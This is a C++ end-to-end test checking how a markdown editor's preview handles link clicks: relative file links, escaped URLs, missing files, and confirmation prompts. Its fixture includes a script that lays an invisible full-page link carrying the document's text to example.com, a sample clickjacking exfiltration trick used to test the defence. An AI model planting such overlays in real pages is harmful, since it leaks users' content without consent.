// What a click in the preview of the program's document window opens: the
// links the document writes, where they lead from the document's real
// folder, at once; anything else a click leads to only after the user saw
// the whole address and said Open; and what cannot be opened is told.
#include <QDir>
#include <QFile>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include "e2e/application.h"
#include "e2e/new_user.h"
#include "e2e/preview_text.h"
#include "platform/runtime/alerts.h"
#include "support/qt_wait.h"
#include "support/stand_in_opener.h"
#include "webview/web_test_support.h"
#include "window/content/master_view_content.h"
#include "window/content/tzr_master_view.h"
#include "window/preview/smart_web_view.h"

using namespace std::chrono_literals;

namespace {

bool writeFile(const QString &path, const QByteArray &bytes) {
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
}

QString encoded(const QUrl &url) { return QString::fromUtf8(url.toEncoded()); }

}  // namespace

// doc/copy.md links to the sample one folder up, beside a namesake in its
// own folder, to a file that is not there, and to a search whose query has
// braces; its script lays an invisible link holding the document's text
// over the whole page.
TEST(PreviewLinksEndToEnd, AClickOpensWhatTheDocumentWritesWhereItLeadsAndAsksAboutTheRest) {
    StandInOpener &opener = StandInOpener::install();
    opener.clear();
    QTemporaryDir root;
    ASSERT_TRUE(QDir(root.path()).mkpath("doc"));
    ASSERT_TRUE(writeFile(root.filePath("sample.md"), "# The sample\n"));
    ASSERT_TRUE(writeFile(root.filePath("doc/sample.md"), "# A namesake\n"));
    const QString document = root.filePath("doc/copy.md");
    ASSERT_TRUE(writeFile(document, R"md(# Copy

Dear diary, nobody knows.

See [the sample](../sample.md) and [the lost one](../lost.md), or [search](https://example.com/find?q={diary}).

<script>
function cover() {
  var a = document.createElement('a');
  a.id = 'cover';
  a.href = 'https://example.com/?d=' + encodeURIComponent(document.querySelector('p').textContent);
  a.style.cssText = 'position:fixed;left:0;top:0;right:0;bottom:0;opacity:0';
  document.body.appendChild(a);
}
</script>
)md"));
    NewUser user(root.filePath("preferences.json"));
    platform::ScriptedAlerts alerts;
    {
        Application application(user.defaults(), TZRThemeController::standardLocations());
        SmartEditorDocument *opened = application.open(document);
        ASSERT_TRUE(opened);
        auto *content = dynamic_cast<TZRMasterView *>(opened->content());
        ASSERT_TRUE(content && content->webView());
        SmartWebView &preview = *content->webView();
        ASSERT_TRUE(previewShows(&preview, "Dear diary"));

        // The link out of the folder opens the file it names, not the one
        // of the same name beside the document.
        ASSERT_TRUE(web_test::clickElement(preview, "a[href=\"../sample.md\"]"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return !opener.calls().isEmpty(); }, 20s));
        EXPECT_EQ(opener.calls(), QStringList{encoded(QUrl::fromLocalFile(root.filePath("sample.md")))});
        EXPECT_EQ(alerts.count(), 0);

        // One whose address the page and the engine escape differently.
        ASSERT_TRUE(web_test::clickElement(preview, "a[href^=\"https://example.com/find\"]"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return opener.calls().size() == 2; }, 20s));
        EXPECT_EQ(opener.calls().last(), "https://example.com/find?q=%7Bdiary%7D");
        EXPECT_EQ(alerts.count(), 0);

        // One that leads nowhere is told, once.
        ASSERT_TRUE(web_test::clickElement(preview, "a[href=\"../lost.md\"]"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 1; }, 20s));
        testing_qt::spinFor(500ms);
        ASSERT_EQ(alerts.count(), 1);
        EXPECT_EQ(alerts.shown()[0].messageText, "Not Opened");
        EXPECT_TRUE(alerts.shown()[0].informativeText.contains(encoded(QUrl::fromLocalFile(root.filePath("lost.md")))))
            << alerts.shown()[0].informativeText.toStdString();
        EXPECT_EQ(opener.calls().size(), 2);

        // A click on the text under the script's link asks first, with the
        // whole address: Cancel opens nothing, Open opens it.
        web_test::evaluate(preview, "cover()");
        const QString cover = "https://example.com/?d=Dear%20diary%2C%20nobody%20knows.";
        alerts.addAnswers({1, 0});
        ASSERT_TRUE(web_test::clickElement(preview, "h1"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 2; }, 20s));
        testing_qt::spinFor(1s);
        EXPECT_EQ(opener.calls().size(), 2);
        ASSERT_TRUE(web_test::clickElement(preview, "h1"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return opener.calls().size() == 3; }, 20s));
        EXPECT_EQ(opener.calls().last(), cover);
        ASSERT_EQ(alerts.count(), 3);
        for (int i : {1, 2}) {
            EXPECT_EQ(alerts.shown()[i].messageText, "Open this address?");
            EXPECT_EQ(alerts.shown()[i].informativeText, cover);
            EXPECT_EQ(alerts.shown()[i].buttons, QStringList({"Open", "Cancel"}));
        }
    }
}
